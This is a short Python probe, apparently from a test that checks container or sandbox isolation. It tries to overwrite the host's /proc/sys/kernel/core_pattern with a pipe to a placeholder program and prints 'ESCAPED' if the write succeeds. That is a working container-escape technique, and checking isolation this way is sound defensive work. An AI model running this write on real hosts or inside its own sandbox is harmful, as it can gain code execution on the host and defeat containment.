# tries: to learn where the host's crash dumps go and change it
# escaped if: something new is in the host's folder, or ESCAPED is printed
try:
    open("/proc/sys/kernel/core_pattern", "w").write("|@WITNESS@"); print("ESCAPED")
except OSError as error:
    print(error)
